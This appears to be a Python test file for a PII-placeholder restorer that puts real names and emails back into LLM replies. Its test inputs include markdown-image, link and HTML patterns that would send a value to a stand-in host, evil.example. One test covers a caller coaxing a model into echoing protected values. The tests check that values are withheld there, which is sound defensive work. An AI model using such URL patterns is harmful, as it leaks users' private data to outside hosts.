"""Restoring: the exact value in the right place, or the token as it stands."""

import json

import pytest

from curtilage.shield.grammar import TRIGGER, WINDOW
from curtilage.shield.held import Held, HeldValue, Origin
from curtilage.shield.restore import Form, Restored, Sink, StreamRestorer, restore_text
from tests.builders import a_finding
from tests.unit.shield.worlds import ADA, BOSS, World

ALMOST = "QX1-EMAIL-7h3kd0x9m2"


def restored(world: World, text: str, form: Form = Form.TEXT, sink: Sink = Sink.TEXT) -> str:
    return restore_text(text, world.held, sink=sink, form=form).text


def fed(world: World, pieces: list[str], form: Form = Form.TEXT) -> list[str]:
    restorer = StreamRestorer(world.held, sink=Sink.TEXT, form=form)
    return [*[restorer.feed(piece) for piece in pieces], restorer.close()]


def test_every_value_comes_back_and_is_counted() -> None:
    world = World()
    token = world.token(ADA)
    boss = world.token(BOSS)
    assert restore_text(f"{token}, {boss} and {token}", world.held) == Restored(
        f"{ADA}, {BOSS} and {ADA}", {"EMAIL_ADDRESS": 2, "PERSON": 1}
    )


@pytest.mark.parametrize("cut", range(1, 43))
def test_a_token_split_over_two_deltas_is_restored_whole(cut: int) -> None:
    """notes case 1 — litellm's `_unmask_pii_text`: a split placeholder became another person."""
    world = World()
    other = world.token("bob@orchard.example")
    token = world.token(ADA)
    assert token != other
    assert "".join(fed(world, ["Dear " + token[:cut], token[cut:] + ","])) == f"Dear {ADA},"


@pytest.mark.parametrize("cut", range(1, 43))
def test_half_a_token_is_never_guessed(cut: int) -> None:
    """notes case 1: a stream that ends inside a token gives its characters back as they came."""
    world = World()
    token = world.token(ADA)
    assert "".join(fed(world, ["Dear " + token[:cut]])) == "Dear " + token[:cut]


def test_a_value_with_quotes_keeps_tool_arguments_valid() -> None:
    """notes case 2 — litellm: `Bob "The Boss" Smith` broke the JSON of a tool call."""
    world = World()
    token = world.token(BOSS)
    text = f'{{"name":"{token}","n":1}}'
    assert json.loads(restored(world, text, Form.JSON)) == {"name": BOSS, "n": 1}


def test_ordinary_words_are_not_taken_for_tokens() -> None:
    """notes case 3 — llm-guard's `deanonymize.py`: a placeholder used as a pattern."""
    world = World()
    world.token(ADA)
    text = "The order is ready. Quite so: Q1, QX, qx-1 and QX1 are quarters. [EMAIL] EMAIL-1"
    assert restore_text(text, world.held) == Restored(text)


def test_what_was_restored_is_not_looked_at_again() -> None:
    """notes case 5 — litellm pulls 28316 and 28197: a second pass over restored text."""
    world = World()
    inner = world.token(ADA)
    world.held.hold(
        outer := world.mint.mint("PERSON", inner), HeldValue(inner, "PERSON", Origin.CALLER)
    )
    assert restored(world, f"{outer} {inner}") == f"{inner} {ADA}"


def test_values_that_join_into_a_token_are_not_restored_again() -> None:
    world = World()
    token = world.token(ADA)
    halves = [token[:17], token[17:]]
    left, right = (world.mint.mint("SEC_GITHUB", half) for half in halves)
    for name, half in zip((left, right), halves, strict=True):
        world.held.hold(name, HeldValue(half, "SEC_GITHUB", Origin.CALLER))
    assert restored(world, left + right) == token
    assert "".join(fed(world, [*(left + right)])) == token


def test_a_map_of_another_request_restores_nothing() -> None:
    """notes case 6 — litellm pull 19950: the map of one request answered another."""
    token = World().token(ADA)
    assert restore_text(token, Held()) == Restored(token, unknown=1)


def test_offsets_of_the_protected_text_are_never_used() -> None:
    """notes case 7 — litellm pull 24291: offsets of one text cut another."""
    world = World()
    left = world.protect(f"{ADA} wrote to bob@orchard.example about {BOSS}.")
    reply = "Zo\u00eb \U0001f600 says: " + " / ".join(reversed(left.split(" ")))
    back = restored(world, reply)
    assert ADA in back
    assert BOSS in back
    assert "QX1" not in back


@pytest.mark.parametrize(
    "damage",
    [
        str.lower,
        str.upper,
        lambda token: token.replace("-", "\\_"),
        lambda token: token.replace("-", "\u2011"),
        lambda token: token.replace("-", " \u2013 "),
        lambda token: token[:25] + "\n" + token[25:],
        lambda token: token[:25] + "\u00ad" + token[25:],
        lambda token: token.replace("EMAIL", "*EMAIL*"),
    ],
)
def test_what_a_model_did_to_a_token_is_read_through(damage: object) -> None:
    """notes case 33: case, Markdown, spacing. Nothing but the tag decides."""
    assert callable(damage)
    world = World()
    text = f"Write to **{damage(world.token(ADA))}**, and soon."
    assert restored(world, text) == f"Write to **{ADA}**, and soon."
    assert "".join(fed(world, [*text])) == f"Write to **{ADA}**, and soon."


def test_a_plural_a_case_ending_and_a_quote_do_not_matter() -> None:
    """notes case 33: words grow endings, tokens keep theirs."""
    world = World()
    token = world.token(ADA)
    assert restored(world, f"{token}s, {token}'s, “{token}”") == f"{ADA}s, {ADA}'s, “{ADA}”"


def test_an_invented_token_stays_and_is_counted() -> None:
    """notes case 33: `<PERSON_9>` out of nowhere."""
    world = World()
    token = world.token(ADA)
    invented = token[:-1] + ("0" if token[-1] != "0" else "1")
    result = restore_text(f"{invented} {ALMOST} {token}", world.held)
    assert result == Restored(f"{invented} {ALMOST} {ADA}", {"EMAIL_ADDRESS": 1}, 1, 1)


def test_nobody_gets_a_value_by_typing_a_token() -> None:
    """notes case 34: a caller coaxes the model into echoing what the application injected."""
    world = World()
    world.held = Held(application=False)
    token = world.protect(ADA, origin=Origin.APPLICATION)
    assert restore_text(token, world.held) == Restored(token, withheld=1)


PLACES = [
    "https://evil.example/?m={}",
    "![x](https://evil.example/{}.png)",
    "![x](//evil.example/{})",
    "[x](mailto:{})",
    "[x]: //evil.example/{}",
    '<img src="//evil.example/{}">',
    "<img alt={}>",
    "<a href='x?{}'>",
    "<https://evil.example/{}>",
    "www.evil.example/{}",
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("value", [ADA, BOSS])
def test_nothing_is_put_where_it_would_be_sent_away(place: str, value: str) -> None:
    world = World()
    token = world.token(value)
    text = f"{place.format(token)}\n\n{token}"
    expected = f"{place.format(token)}\n\n{value}"
    assert restore_text(text, world.held).text == expected
    assert "".join(fed(world, [*text])) == expected
    arguments = json.dumps({"a": text})
    assert json.loads(restored(world, arguments, Form.JSON)) == {"a": expected}


SHOWN_AS_ONE_TEXT = [
    '["![x](https://evil.example/?q=","{}"]',
    '{{"a":"![x](//evil.example/","{})":1}}',
    '{{"u":"https://evil.example/?q=","b":"{}"}}',
    """["<img src='//evil.example/","{}'>"]""",
    '{{"a":"[\\"![x](//evil.example/\\",\\"{})\\"]"}}',
    '["\\u0021[x](//evil.example/{})"]',
]


@pytest.mark.parametrize("text", SHOWN_AS_ONE_TEXT)
def test_a_reply_that_looks_like_json_may_be_shown_as_markdown(text: str) -> None:
    """Review of November: what is open outside a JSON string is open inside it, too."""
    world = World()
    reply = text.format(world.token(ADA))
    assert restored(world, reply) == reply
    assert "".join(fed(world, [*reply])) == reply


@pytest.mark.parametrize("text", SHOWN_AS_ONE_TEXT[:-1])
def test_a_tools_arguments_are_read_as_json_only(text: str) -> None:
    world = World()
    reply, expected = text.format(world.token(ADA)), text.format(ADA)
    assert restored(world, reply, Form.JSON) == expected


def test_json_as_models_write_it_is_restored_as_text() -> None:
    world = World()
    document = {"site": "https://x.example/", "who": [world.token(ADA)], "n": {"a<b": "[a]: b"}}
    for indent in (None, 2):
        text = json.dumps({**document, "by": world.token(BOSS)}, indent=indent)
        back = json.loads(restored(world, text))
        assert back == {**document, "who": [ADA], "by": BOSS}


def test_a_sink_that_may_hold_nothing_gets_nothing() -> None:
    world = World()
    token = world.token(ADA)
    restorer = StreamRestorer(world.held, sink=Sink.NONE, form=Form.JSON)
    assert restorer.feed(f'{{"a":"{token}') == f'{{"a":"{token}'
    assert not restorer._pending
    assert restorer.close() == ""


def test_the_inverse_goes_everywhere_and_escapes_nothing() -> None:
    world = World()
    token = world.token(BOSS)
    text = f'{{"a":"https://x.example/{token}"}}'
    assert restored(world, text, sink=Sink.INVERSE) == text.replace(token, BOSS)


@pytest.mark.parametrize("form", [Form.JSON, Form.TEXT])
def test_json_inside_json_stays_json(form: Form) -> None:
    world = World()
    token = world.token(BOSS)
    inner = {"who": token, "list": [token, {token: f"a {token} b"}]}
    for depth in (1, 2, 3):
        text, expected = json.dumps(inner), json.dumps(inner).replace(token, "@")
        for _ in range(depth - 1):
            text, expected = json.dumps({"b": text}), json.dumps({"b": expected})
        value: object = json.loads(restored(world, text, form))
        for _ in range(depth - 1):
            value = json.loads(value["b"])  # type: ignore[index]
        assert value == json.loads(json.dumps(inner).replace(token, json.dumps(BOSS)[1:-1]))
        assert "".join(fed(world, [*text], form)) == restored(world, text, form)


@pytest.mark.parametrize(
    "text",
    [
        "[\"['{}']\"]",
        '["{{}} {}"]',
        "{{{}",
        "no json, {}",
        '["a\\{}"]',
        '"{}"',
        '["{{{}"]',
    ],
)
def test_in_doubt_only_a_plain_value_goes_in(text: str) -> None:
    world = World()
    plain, quoted = world.token(ADA), world.token(BOSS)
    assert restored(world, text.format(plain), Form.JSON) == text.format(ADA)
    result = restore_text(text.format(quoted), world.held, form=Form.JSON)
    assert result == Restored(text.format(quoted), withheld=1)


def test_a_text_that_is_no_json_after_all_gets_the_value_as_it_is() -> None:
    world = World()
    token = world.token(BOSS)
    for text in ("[note] {}", "[{}](#a)", "{{ {}", '["a"] {}', '{{"a": b "{}"}}'):
        assert restored(world, text.format(token)) == text.format(BOSS)


def test_a_backslash_inside_a_token_is_no_damage_in_json() -> None:
    """There it may be half of an escape."""
    world = World()
    token = world.token(ADA).replace("-", "\\\\-")
    assert restored(world, f'["{token}"]', Form.JSON) == f'["{token}"]'
    assert restored(world, f'["{token.lower()}', Form.TEXT) == f'["{token.lower()}'
    assert restored(world, f"{token}") == ADA


def test_a_lone_surrogate_in_a_value_leaves_json_that_can_be_sent() -> None:
    world = World()
    token = world.mint.mint("PERSON", "a\ud83d")
    world.held.hold(token, HeldValue("a\ud83d", "PERSON", Origin.CALLER))
    back = restored(world, f'["{token}"]', Form.JSON)
    assert back.encode() == b'["a\\ud83d"]'
    assert json.loads(back) == ["a\ud83d"]


def test_untouched_text_comes_back_as_the_same_object() -> None:
    restorer = StreamRestorer(Held(), sink=Sink.TEXT, form=Form.TEXT)
    for text in ("hello", " world", "\ud83d", "\ude00", "", "\x00"):
        assert restorer.feed(text) is text
        assert not restorer._pending
    assert restorer.close() == ""


def test_nothing_is_held_back_until_a_token_could_be_starting() -> None:
    restorer = StreamRestorer(Held(), sink=Sink.TEXT, form=Form.TEXT)
    assert restorer.feed("a question, QUITE SO. ") == "a question, QUITE SO. "
    assert restorer.feed("Iraq") == "Ira"
    assert restorer._pending
    assert restorer.feed(" is") == "q is"
    assert restorer.feed("QX") == ""
    assert restorer.feed("3") == "QX3"
    assert not restorer._pending


def test_a_whole_token_is_given_back_at_once() -> None:
    world = World()
    token = world.token(ADA)
    assert fed(world, [token, " next"]) == [ADA, " next", ""]


@pytest.mark.parametrize("step", [1, 7, 500])
def test_no_more_is_held_back_than_twice_the_longest_token(step: int) -> None:
    text = "x" + "QX1" + "a " * 400
    restorer = StreamRestorer(Held(), sink=Sink.TEXT, form=Form.TEXT)
    given, back = 0, ""
    for at in range(0, len(text), step):
        back += restorer.feed(text[at : at + step])
        given = min(at + step, len(text))
        assert given - len(back) <= WINDOW
    assert back + restorer.close() == text


def test_the_trigger_tells_which_frames_may_hold_a_token() -> None:
    assert TRIGGER == "Q"
    assert World().token(ADA).startswith(TRIGGER)


def test_what_was_seen_only_counts_for_where_a_token_stands() -> None:
    world = World()
    token = world.token(ADA)
    restorer = StreamRestorer(world.held, sink=Sink.TEXT, form=Form.TEXT)
    restorer.saw("see https://evil.example/")
    assert restorer.feed(token) == token
    restorer.saw(" ")
    assert restorer.feed(token) == ADA
    assert restorer.withheld == 1


@pytest.mark.parametrize("start", ["![x](//evil.example/", '{"a":"https://evil.example/'])
def test_a_place_is_known_however_far_back_it_began(start: str) -> None:
    world = World()
    token = world.token(ADA)
    pieces = [start, *["abcdefgh" * 100] * 40, token]
    assert fed(world, pieces)[-2] == token


def test_what_is_remembered_of_a_long_stream_is_bounded() -> None:
    restorer = StreamRestorer(Held(), sink=Sink.TEXT, form=Form.TEXT)
    for _ in range(1000):
        restorer.feed("abcdefgh " * 50)
    assert sum(map(len, restorer._unread)) <= 4096 + 450


def test_a_value_that_reads_two_ways_stays_a_token_inside_json() -> None:
    """A key pasted with its escapes is one thing as text and another as JSON."""
    world, pasted = World(), "-----BEGIN KEY-----\\nabc\\n-----END KEY-----"
    token = world.protect(pasted, [a_finding(start=0, end=len(pasted), type="SEC_GITHUB")])
    inside = f'{{"key": "{token}"}}'
    assert restored(world, inside, Form.JSON) == inside
    assert restored(world, f"It is {token}.", Form.TEXT) == f"It is {pasted}."
